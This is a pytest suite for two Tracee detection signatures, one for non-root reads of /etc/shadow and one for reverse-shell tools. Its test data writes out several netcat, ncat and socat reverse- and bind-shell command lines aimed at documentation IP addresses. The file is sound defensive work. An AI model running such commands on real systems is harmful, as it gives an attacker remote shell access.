"""Tests of EX-1 and EX-2 with pytracee's pytest plugin.

The plugin (installed with pytracee) provides ``make_event``, ``run_signature``
and ``run_engine`` as fixtures; ``assert_fires``/``assert_silent`` are imported.
Every event goes through the engine as in a replay, data filters included, in
both argument forms Tracee writes: raw values and ``option:parse-arguments``
strings.
"""

from __future__ import annotations

from typing import Any

import example_signatures
import pytest
from example_signatures import ShadowFileRead, reverse_shell_tool
from pytracee.engine.plugins import PluginManager
from pytracee.engine.testing import (
    assert_fires,
    assert_silent,
    builtin_signatures,
    make_event,
)

O_RDONLY_LARGEFILE = 0o100000  # 32768, what Tracee prints without parse-arguments
O_WRONLY_CREAT_TRUNC = 0o1101
O_RDWR = 0o2


def file_open(path: str, flags: int | str, *, uid: int, comm: str = "python3", **fields: Any):
    return make_event(
        "security_file_open",
        {
            "pathname": path,
            "flags": flags,
            "dev": 271581185,
            "inode": 1049631,
            "ctime": 1716300000000000000,
            "syscall_pathname": path,
        },
        userId=uid,
        processName=comm,
        **fields,
    )


def exec_event(pathname: str, argv: list[str], *, parsed: bool = False, container: bool = False):
    comm = (argv[0] if argv else pathname).rpartition("/")[2][:15]
    return make_event(
        "sched_process_exec",
        {
            "cmdpath": pathname,
            "pathname": pathname,
            "dev": 271581185,
            "inode": 2493759,
            "ctime": 1716300000000000000,
            "inode_mode": "S_IFREG|S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH" if parsed else 33261,
            "interpreter_pathname": "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            "argv": argv,
            "stdin_type": "S_IFIFO" if parsed else 4096,
            "stdin_path": "pipe:[4821]",
            "invoked_from_kernel": False,
            "prev_comm": "bash",
            "env": ["PATH=/usr/bin:/bin", "HOME=/var/www"],
            "pwd": "/var/www/html",
        },
        container=container,
        processName=comm,
        userId=33,
    )


# --- EX-1: shadow file read by a non-root process ---------------------------------------------


@pytest.mark.parametrize("flags", [O_RDONLY_LARGEFILE, "O_RDONLY|O_LARGEFILE", O_RDWR, "O_RDWR|O_CLOEXEC"])
def test_ex1_fires_on_shadow_read_by_user(flags: int | str) -> None:
    assert_fires(
        ShadowFileRead, [file_open("/etc/shadow", flags, uid=1000)], {"path": "/etc/shadow", "uid": 1000}, count=1
    )


def test_ex1_fires_on_gshadow_in_a_container() -> None:
    event = file_open("/etc/gshadow", "O_RDONLY", uid=65534, comm="sh", container=True)
    finding = assert_fires(ShadowFileRead, [event], {"path": "/etc/gshadow", "uid": 65534})
    assert finding.event.origin == "container"
    assert finding.sig_metadata.properties["external_id"] == "T1003.008"


@pytest.mark.parametrize(
    ("path", "flags", "uid", "comm"),
    [
        pytest.param("/etc/shadow", O_RDONLY_LARGEFILE, 0, "python3", id="root"),
        pytest.param("/etc/shadow", "O_RDONLY|O_LARGEFILE", 1000, "unix_chkpwd", id="password-helper"),
        pytest.param("/etc/shadow", O_WRONLY_CREAT_TRUNC, 1000, "python3", id="write-only"),
        pytest.param("/etc/passwd", O_RDONLY_LARGEFILE, 1000, "python3", id="passwd"),
        pytest.param("/etc/shadow-", "O_RDONLY", 1000, "python3", id="backup-file"),
        pytest.param("/home/user/etc/shadow", O_RDONLY_LARGEFILE, 1000, "python3", id="other-directory"),
    ],
)
def test_ex1_silent(path: str, flags: int | str, uid: int, comm: str) -> None:
    assert_silent(ShadowFileRead, [file_open(path, flags, uid=uid, comm=comm)])


def test_ex1_with_the_fixtures(make_event, run_signature) -> None:
    events = [
        make_event(
            "security_file_open", {"pathname": "/etc/shadow", "flags": "O_RDONLY"}, userId=1000, processName="cat"
        ),
        make_event("security_file_open", {"pathname": "/etc/shadow", "flags": "O_RDONLY"}, userId=0, processName="cat"),
        make_event("openat", {"dirfd": -100, "pathname": "/etc/shadow", "flags": 0, "mode": 0}, userId=1000),
    ]
    findings = run_signature(ShadowFileRead(), events)
    assert [f.event.user_id for f in findings] == [1000]
    assert findings[0].event.process_name == "cat"


# --- EX-2: reverse shell tools --------------------------------------------------------------


REVERSE_SHELLS = [
    pytest.param(
        "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "nc.traditional", id="nc-e"
    ),
    pytest.param(
        "/usr/bin/nc.traditional", ["nc", "-nve", "/bin/bash", "203.0.113.7", "4444"], "nc.traditional", id="nc-cluster"
    ),
    pytest.param("/usr/bin/ncat", ["ncat", "--sh-exec", "bash -i", "203.0.113.7", "443"], "ncat", id="ncat-sh-exec"),
    pytest.param("/usr/bin/ncat", ["ncat", "--exec=/bin/sh", "-l", "9001"], "ncat", id="ncat-bind-shell"),
    pytest.param(
        "/usr/bin/socat", ["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr,setsid"], "socat", id="socat"
    ),
    pytest.param("/bin/busybox", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"], "nc", id="busybox-nc"),
]


@pytest.mark.parametrize("parsed", [False, True], ids=["raw", "parse-arguments"])
@pytest.mark.parametrize(("pathname", "argv", "tool"), REVERSE_SHELLS)
def test_ex2_fires(pathname: str, argv: list[str], tool: str, parsed: bool) -> None:
    event = exec_event(pathname, argv, parsed=parsed)
    assert_fires(reverse_shell_tool, [event], {"tool": tool, "command": " ".join(argv)}, count=1)


@pytest.mark.parametrize(
    ("pathname", "argv"),
    [
        pytest.param("/usr/bin/nc.openbsd", ["nc", "-zv", "db.internal", "5432"], id="port-check"),
        pytest.param("/usr/bin/nc.openbsd", ["nc", "-l", "9000"], id="listener-without-program"),
        pytest.param("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"], id="socat-forwarder"),
        pytest.param("/usr/bin/socat", ["socat", "EXEC:/bin/date", "STDOUT"], id="socat-local-exec"),
        pytest.param("/usr/bin/curl", ["curl", "-e", "https://example.com", "https://example.org"], id="not-a-netcat"),
        pytest.param("/bin/busybox", ["grep", "-e", "nc", "/etc/services"], id="busybox-grep"),
        pytest.param("/usr/bin/nc.traditional", [], id="no-argv"),
    ],
)
def test_ex2_silent(pathname: str, argv: list[str]) -> None:
    assert_silent(reverse_shell_tool, [exec_event(pathname, argv), exec_event(pathname, argv, parsed=True)])


def test_ex2_in_a_container_next_to_the_builtins(run_engine) -> None:
    events = [exec_event("/usr/bin/ncat", ["ncat", "-e", "/bin/sh", "198.51.100.9", "53"], container=True)]
    findings = run_engine(events, [*builtin_signatures(), ShadowFileRead(), reverse_shell_tool()])
    assert [f.sig_metadata.id for f in findings] == ["EX-2"]
    assert findings[0].event.origin == "container"
    assert findings[0].sig_metadata.event_name == "reverse_shell_tool"
    assert findings[0].sig_metadata.severity == 3


# --- packaging: what the entry point hands tracee-rules ----------------------------------------


def test_the_entry_point_module_registers_both_signatures() -> None:
    pm = PluginManager()
    pm.register(example_signatures, name="example")
    loaded = {s.metadata.id: s for s in pm.collect_signatures()}
    assert sorted(loaded) == ["EX-1", "EX-2"]
    assert loaded["EX-1"].plugin == "example"
    assert str(loaded["EX-2"].selectors[0]).startswith("tracee:sched_process_exec:*")
